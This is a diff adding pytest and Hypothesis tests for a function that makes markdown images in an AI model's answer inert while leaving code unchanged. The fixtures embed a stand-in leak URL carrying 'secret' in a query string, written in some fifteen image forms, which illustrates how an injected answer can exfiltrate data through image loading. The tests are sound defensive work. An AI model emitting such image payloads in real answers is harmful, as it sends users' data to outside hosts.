@@ -1,5 +1,6 @@
 """Untrusted text: NUL characters refused or replaced, markdown escaped where pages show names,
-titles and notes that someone else may have chosen (History, the sidebar, Admin)."""
+titles and notes that someone else may have chosen (History, the sidebar, Admin), and the
+images in a model's answer made inert (its code left exactly as written)."""
 
 from __future__ import annotations
 
@@ -8,13 +9,23 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 from streamlit.testing.v1 import AppTest
 
 from playground import hosted, services
 from playground.errors import InvalidRequestError
 from playground.providers.base import Message
 from playground.results import CompareRequest, ModelTarget
-from playground.safe_text import escape_markdown, inline_code, reject_nul, replace_nul
+from playground.safe_text import (
+    escape_markdown,
+    inert_images,
+    inline_code,
+    reject_nul,
+    replace_nul,
+)
 from tests.app_harness import APP, click, texts
 
 IMAGE = "![pixel](http://127.0.0.1:9/pixel.png)"
@@ -68,6 +79,108 @@ def test_nul_is_refused_with_a_message_naming_the_field() -> None:
 def test_nul_is_replaced_by_the_replacement_character() -> None:
     assert replace_nul("a\x00b\x00") == "a\ufffdb\ufffd"
     assert replace_nul("clean") == "clean"
+
+
+# --- images in an answer ---------------------------------------------------------------------
+
+LEAK = "http://203.0.113.9/leak.png?q=secret"
+IMAGE_FORMS = {
+    "inline": f"![x]({LEAK})",
+    "inline with a title": f'![x]({LEAK} "t")',
+    "angle brackets": f"![x](<{LEAK}>)",
+    "full reference": f"![x][r]\n\n[r]: {LEAK}",
+    "collapsed reference": f"![r][]\n\n[r]: {LEAK}",
+    "shortcut reference": f"![r]\n\n[r]: {LEAK}",
+    "inside a link (a badge)": f"[![x]({LEAK})](http://example.org)",
+    "inside an image's alt": f"![a ![b]({LEAK})](http://example.org/c.png)",
+    "list item": f"- one\n- ![x]({LEAK})",
+    "block quote": f"> > ![x]({LEAK})",
+    "heading": f"## ![x]({LEAK})",
+    "table cell": f"| a | b |\n|---|---|\n| `code` | ![x]({LEAK}) |",
+    "after an escaped backslash": f"\\\\![x]({LEAK})",
+    "after a code span": f"`vec![1]` ![x]({LEAK})",
+    "after a fence": f"```\n![kept](u)\n```\n![x]({LEAK})",
+}
+CODE = {
+    "code span": "Use `vec![1, 2]` or ``a ` ![x](http://h/p.png) ``.",
+    "fence": "```rust\nlet v = vec![1, 2];\n![x](http://h/p.png)\n```",
+    "tilde fence with an info string": "~~~md ![i]\n![x][r]\n~~~\n\n[r]: http://h/p.png",
+    "indented code": "Text:\n\n    ![x](http://h/p.png)\n    vec![0; 3]",
+    "fence in a list": "1. step\n\n   ```\n   ![x](http://h/p.png)\n   ```",
+    "code in a table cell": "| a |\n|---|\n| `![x](http://h/p.png)` |",
+    "unclosed fence": "```\n![x](http://h/p.png)",
+}
+PLAIN = {
+    "link": "[click](http://example.org/page) and <http://example.org/auto>",
+    "escaped image": "\\![x](http://example.org/a.png) is a ! and a link",
+    "bang before a word": "Wow! [see](http://example.org) !not an image",
+    "html": '<img src="http://h/p.png"> stays for Streamlit to drop',
+    "nothing": "Plain **bold** _text_.",
+}
+_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def tokens(markdown: str) -> list[Token]:
+    """Every token, inline ones and those in link texts and image alts included."""
+    found: list[Token] = []
+    pending = _PARSER.parse(markdown)
+    while pending:
+        token = pending.pop(0)
+        found.append(token)
+        pending[:0] = token.children or []
+    return found
+
+
+def code_of(markdown: str) -> list[tuple[str, str, str]]:
+    return [
+        (t.type, t.info, t.content)
+        for t in tokens(markdown)
+        if t.type in ("fence", "code_block", "code_inline")
+    ]
+
+
+@pytest.mark.parametrize("markdown", IMAGE_FORMS.values(), ids=IMAGE_FORMS.keys())
+def test_every_form_of_image_is_shown_as_its_text(markdown: str) -> None:
+    assert [t for t in tokens(markdown) if t.type == "image"], "the example is an image"
+    inert = inert_images(markdown)
+    assert [t for t in tokens(inert) if t.type == "image"] == []
+    assert inert.replace("!\\[", "![") == markdown
+    assert code_of(inert) == code_of(markdown)
+
+
+@pytest.mark.parametrize("markdown", CODE.values(), ids=CODE.keys())
+def test_code_blocks_and_spans_stay_exactly_as_written(markdown: str) -> None:
+    assert inert_images(markdown) == markdown
+
+
+@pytest.mark.parametrize("markdown", PLAIN.values(), ids=PLAIN.keys())
+def test_links_and_text_without_images_are_unchanged(markdown: str) -> None:
+    assert inert_images(markdown) == markdown
+
+
+def test_code_and_images_in_one_answer() -> None:
+    answer = f"Run `v![0]`:\n\n```\n![a](b)\n```\n\nThen ![chart]({LEAK}) and [docs](http://x.org)."
+    assert inert_images(answer) == answer.replace("![chart]", "!\\[chart]")
+
+
+def test_a_private_use_character_in_the_answer_cannot_pass_for_a_marker() -> None:
+    forged = "".join(chr(0xE000 + i) for i in range(3)) + "0"
+    answer = f"`\ue0000\ue000 {forged}` ![x]({LEAK})"
+    assert [t for t in tokens(inert_images(answer)) if t.type == "image"] == []
+
+
+# Characters that build images, links, code, containers and escapes, and some plain ones.
+_MARKDOWN_PIECES = st.lists(
+    st.sampled_from([*"![]()`~\\<>:|-*_# \t\nx1", "    ", "```", "http://h/"]), max_size=40
+).map("".join)
+
+
+@given(_MARKDOWN_PIECES)
+def test_no_image_survives_and_code_is_untouched_for_any_text(markdown: str) -> None:
+    inert = inert_images(markdown)
+    assert [t for t in tokens(inert) if t.type == "image"] == []
+    assert code_of(inert) == code_of(markdown)
+    assert inert_images(inert) == inert
 
 
 # --- the pages ----------------------------------------------------------------------------
